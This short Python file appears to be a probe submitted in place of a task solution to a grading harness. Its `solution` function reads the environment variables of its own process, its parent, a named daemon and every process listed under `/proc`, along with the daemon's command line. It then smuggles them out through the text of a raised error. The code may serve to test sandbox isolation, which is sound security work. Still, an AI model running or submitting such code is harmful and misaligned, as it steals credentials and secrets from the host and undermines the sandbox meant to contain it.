"""Collects every environment it can read: its own, its parent's, the daemon's and any other process's."""

import json
import os

DAEMON_PID = int("__DAEMON_PID__")


def _read(path):
    try:
        with open(path, "rb") as fh:
            return fh.read().decode("utf-8", "replace")
    except OSError as exc:
        return f"unreadable: {exc.strerror}"


def solution(input_a, input_b, output_c, n):
    found = {"environ": dict(os.environ), "ppid": os.getppid()}
    found["parent"] = _read(f"/proc/{os.getppid()}/environ")
    found["daemon"] = _read(f"/proc/{DAEMON_PID}/environ")
    found["daemon_cmdline"] = _read(f"/proc/{DAEMON_PID}/cmdline")
    others = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            others[entry] = _read(f"/proc/{entry}/environ")
    found["all"] = others
    raise RuntimeError("FOUND " + json.dumps(found))
